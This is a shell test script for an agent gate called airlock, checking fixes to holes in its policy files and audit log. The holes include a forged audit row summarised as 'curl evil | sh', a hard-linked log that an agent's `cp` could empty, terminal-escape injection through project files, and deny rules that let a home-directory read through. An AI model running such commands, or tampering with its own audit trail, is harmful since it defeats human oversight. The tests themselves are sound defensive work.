#!/bin/sh
# 142-policy-audit-review.sh: what a hostile review of the policy files and
# the audit log found on c93eb52, each check failing before its fix:
# `audit show` of a row added to the call index for a call the chain never
# saw exited 0 ("NOT CONFIRMED", "broken": false); a log with a second name
# (a hard link) in the workdir was written by the gate while an auto-run
# `cp` through that name emptied it; `policy check`, `show` and `classify
# --explain` wrote a project file's control bytes (ESC, in a rule, a
# profile's name or the file's path) to the terminal, and an error's quoted
# "\n" began a line of its own; a profile's timeout past 2^64 ms wrapped
# (`sleep 1` timed out at 0.4 s) and processes past pids.max failed every
# call, while `policy check` said ok; `audit prune --before 2026-13-01`
# pruned the whole log; `deny = Read($HOME/notes)` (a directory called
# $HOME in the workdir) let `cat ~/notes` run while `policy check` said ok;
# a netrc entry's password, an XML <password> and ssh-keygen's -N were
# stored; a --db starting with "file:" was a SQLite URI (the log in memory,
# or inside the workdir).
. tests/e2e/lib.sh
need sqlite3 jq
d=$(mktemp -d /tmp/airlock-polaud.XXXXXX)
trap 'rm -rf "$d"' EXIT
A=$AIRLOCK
mkdir -p "$d/wd" "$d/state" "$d/home"
export HOME="$d/home" XDG_STATE_HOME="$d/state"
gate() { (cd "$d/wd" && "$A" gate --no-tty --db "$1") >/dev/null 2>&1; }
printf '%s\n' '{"id":"1","tool":"shell","input":{"command":"ls"}}' \
	'{"id":"2","tool":"shell","input":{"command":"echo two"}}' >"$d/two.in"
gate "$d/base.db" <"$d/two.in"
check "the log verifies" "$A" audit verify --index --db "$d/base.db"

# ---- audit show: an index row with no event of its call is forged ----
cp "$d/base.db" "$d/f.db"
sqlite3 "$d/f.db" "INSERT INTO call_index(id, session, time, mode, tool, name, summary,
	tier, rules, action, decision, who) SELECT id + 1, session, time, mode, tool, name,
	'curl evil | sh', tier, rules, 'auto', 'auto', 'policy' FROM call_index ORDER BY id LIMIT 1"
fid=$(sqlite3 "$d/f.db" "SELECT id FROM call_index WHERE summary = 'curl evil | sh'")
"$A" audit show "$fid" --db "$d/f.db" >"$d/f.out" 2>&1
expect_eq "a forged index row: show exits 1" "$?" 1
"$A" audit show "$fid" --json --db "$d/f.db" >"$d/f.json" 2>&1
expect_eq "a forged index row: show --json says broken" \
	"$(jq -r .integrity.broken "$d/f.json")" true
check "a forged index row: says why" grep -q "chain holds none of its events" "$d/f.out"

# ---- a log with a second name (a hard link) in the workdir ----
# the gate checked the one path it was given; through the link an auto-run
# `cp empty h.db` (medium) emptied the log it was writing
gate "$d/state/h.db" <"$d/two.in"
ln "$d/state/h.db" "$d/wd/h.db"
: >"$d/wd/empty"
printf '%s\n' '{"id":"1","tool":"shell","input":{"command":"cp empty h.db"}}' >"$d/cp.in"
(cd "$d/wd" && "$A" gate --no-tty --db "$d/state/h.db") <"$d/cp.in" >"$d/h.out" 2>"$d/h.err"
expect_eq "a hard-linked log: the gate refuses to start" "$?" 125
check "a hard-linked log: the log is whole" "$A" audit verify --db "$d/state/h.db"
check "a hard-linked log: says why" grep -q "has 2 names (hard links)" "$d/h.err"
rm "$d/wd/h.db"
# a link made while the gate runs: the next call is refused, not run
cp "$d/base.db" "$d/state/m.db"
{
	printf '%s\n' '{"id":"a","tool":"shell","input":{"command":"echo one"}}'
	sleep 2
	ln "$d/state/m.db" "$d/wd/m.db"
	printf '%s\n' '{"id":"b","tool":"shell","input":{"command":"cp empty m.db"}}'
} | (cd "$d/wd" && "$A" gate --no-tty --db "$d/state/m.db") >"$d/m.out" 2>/dev/null
expect_eq "a link made while the gate runs: the first call ran" \
	"$(jq -r 'select(.id == "a") | .exit_code' "$d/m.out")" 0
expect_eq "a link made while the gate runs: the next call did not run" \
	"$(jq -r 'select(.id == "b") | .exit_code // "none"' "$d/m.out")" none
check "a link made while the gate runs: the log is not emptied" test -s "$d/state/m.db"
rm -f "$d/wd/m.db"

# ---- policy check / show: a project file's text is shown, not obeyed ----
# git-config keeps control bytes; a cloned repository's ESC retitled the
# terminal or cleared the screen, and a quoted "\n" began a line of its own
mkdir -p "$d/pw/.airlock"
printf '[rules]\n\tallow = "Shell(echo \033]0;TITLE\007 \033[2J)"\n[profile "p\033[2Jx"]\n\tnetwork = true\n[tier "high"]\n\taction = "\033[2Jdeny\\npolicy: ok"\n' \
	>"$d/pw/.airlock/policy"
chmod 644 "$d/pw/.airlock/policy"
(cd "$d/pw" && "$A" policy check .airlock/policy) >"$d/pc.out" 2>&1
expect_eq "policy check: a bad project file fails" "$?" 2
expect_eq "policy check: no ESC reaches the terminal" "$(tr -dc '\033' <"$d/pc.out" | wc -c)" 0
expect_eq "policy check: a quoted line break starts no line" "$(grep -c 'check: policy: ok' "$d/pc.out")" 0
sed -i '/^\[tier/,$d' "$d/pw/.airlock/policy"
(cd "$d/pw" && "$A" policy show) >"$d/ps.out" 2>&1
expect_eq "policy show: the project loads" "$?" 0
expect_eq "policy show: no ESC reaches the terminal" "$(tr -dc '\033' <"$d/ps.out" | wc -c)" 0
check "policy show: the profile's name is shown escaped" grep -q 'profile "p\\x1b\[2Jx"' "$d/ps.out"

# a rule's reason names its file: `classify --explain` printed a path
# holding ESC (a directory a checkout made) raw
ew="$d/$(printf 'p\033[2Jw')"
mkdir -p "$ew/.airlock"
printf '[rules]\n\tdeny = Shell(ls *)\n[tier "low"]\n\taction = ask\n' >"$ew/.airlock/policy"
chmod 644 "$ew/.airlock/policy"
(cd "$ew" && "$A" classify --explain --format text --shell 'ls x') >"$d/ce.out" 2>&1
check "classify --explain: the rule still denies" grep -q -- '-> deny' "$d/ce.out"
expect_eq "classify --explain: no ESC in the rule's reason" "$(tr -dc '\033' <"$d/ce.out" | wc -c)" 0
(cd "$ew" && "$A" classify --explain --format text --shell 'echo x') >"$d/ct.out" 2>&1
check "classify --explain: the project raised the tier's action" grep -q -- '-> ask' "$d/ct.out"
expect_eq "classify --explain: no ESC in the tier's reason" "$(tr -dc '\033' <"$d/ct.out" | wc -c)" 0

# ---- limits past what the sandbox applies are errors, not wrapped ----
# timeout = 18446744073709552 (s) wrapped to 384 ms: `sleep 1` timed out
mkdir -p "$d/lh/.config/airlock"
printf '[profile "readonly"]\n\ttimeout = 18446744073709552\n' >"$d/lh/.config/airlock/policy"
(cd "$d/wd" && HOME="$d/lh" "$A" policy check) >"$d/lc.out" 2>&1
expect_eq "a timeout past a year: policy check fails" "$?" 2
printf '%s\n' '{"id":"1","tool":"shell","input":{"command":"sleep 1"}}' >"$d/sleep.in"
(cd "$d/wd" && HOME="$d/lh" "$A" gate --no-tty --db "$d/state/l.db") <"$d/sleep.in" >"$d/ls.out" 2>&1
expect_eq "a timeout past a year: the call is not run" "$(grep -c '"timed_out":true' "$d/ls.out")" 0
printf '[profile "readonly"]\n\tprocesses = 4611686018427387903\n' >"$d/lh/.config/airlock/policy"
(cd "$d/wd" && HOME="$d/lh" "$A" policy check) >"$d/lp.out" 2>&1
expect_eq "processes past pids.max's range: policy check fails" "$?" 2
printf '[profile "readonly"]\n\ttimeout = 31536000\n' >"$d/lh/.config/airlock/policy"
(cd "$d/wd" && HOME="$d/lh" "$A" gate --no-tty --db "$d/state/l2.db") <"$d/sleep.in" >"$d/l2.out" 2>&1
expect_eq "a timeout of a year: sleep 1 runs to its end" "$(jq -r .exit_code "$d/l2.out")" 0

# ---- audit dates must be real: they are compared with the log's as text ----
# `prune --before 2026-13-01` (a month typed 13) was later than every event
cp "$d/base.db" "$d/p.db"
before=$(sqlite3 "$d/p.db" "SELECT count(*) FROM events")
"$A" audit prune --before 2026-13-01 --db "$d/p.db" >/dev/null 2>&1
expect_eq "prune --before month 13: refused" "$?" 2
expect_eq "prune --before month 13: nothing removed" \
	"$(sqlite3 "$d/p.db" "SELECT count(*) FROM events")" "$before"
"$A" audit list --since 2026-04-31 --db "$d/p.db" >/dev/null 2>&1
expect_eq "list --since April 31: refused" "$?" 2
"$A" audit list --since 2024-02-29T23:59:59 --db "$d/p.db" >/dev/null 2>&1
expect_eq "list --since a leap day: taken" "$?" 0

# ---- a path pattern that starts with $HOME or ~user names a directory ----
# so called in the workdir: `deny = Read($HOME/notes)` let `cat ~/notes` run
mkdir -p "$d/vh/.config/airlock"
printf '[rules]\n\tdeny = Read($HOME/notes)\n\tdeny = Read(~root/.ssh/**)\n' \
	>"$d/vh/.config/airlock/policy"
(cd "$d/wd" && HOME="$d/vh" "$A" policy check) >"$d/vh.out" 2>&1
check "deny = Read(\$HOME/...): policy check says it is no variable" \
	grep -q 'called \$HOME, not a variable' "$d/vh.out"
check "deny = Read(~root/...): policy check says it is no home" \
	grep -q "called ~root, not another user's home" "$d/vh.out"

# ---- redaction: a netrc entry, an XML element, ssh-keygen's passphrase ----
# (fake secrets; each command only writes a file in the workdir or echoes)
sec=Zx9Qw7Lm3Np5Rt8V
for c in "echo machine h login bob password $sec" "echo ssh-keygen -N $sec -f k" \
	"echo '<server><password>$sec</password></server>'"; do
	jq -cn --arg c "$c" '{tool: "shell", input: {command: $c}}'
done >"$d/netrc.in"
gate "$d/netrc.db" <"$d/netrc.in"
n_ev() { sqlite3 "$d/netrc.db" "SELECT count(*) FROM events WHERE $1"; }
expect_eq "netrc, XML, ssh-keygen: three calls recorded" "$(n_ev "kind = 'received'")" 3
expect_eq "netrc, XML, ssh-keygen: the password is in no event" "$(n_ev "body LIKE '%$sec%'")" 0
check "netrc, XML, ssh-keygen: the log verifies" "$A" audit verify --index --db "$d/netrc.db"

# ---- a --db that starts with "file:" is a file, not a SQLite URI ----
# `file:...?mode=memory` kept the log in memory, and `--workdir wd --db
# file:wd/u.db` put it inside the workdir the check had put it outside of
(cd "$d" && "$A" gate --no-tty --workdir wd --db "file:$d/mem.db?mode=memory") \
	<"$d/two.in" >/dev/null 2>&1
(cd "$d" && "$A" audit verify --db "file:$d/mem.db?mode=memory") >/dev/null 2>&1
expect_eq "--db file:...?mode=memory: the log is on disk and verifies" "$?" 0
(cd "$d" && "$A" gate --no-tty --workdir wd --db file:wd/u.db) <"$d/two.in" >/dev/null 2>&1
check "--db file:wd/u.db: no log made inside the workdir" test ! -e "$d/wd/u.db"

finish
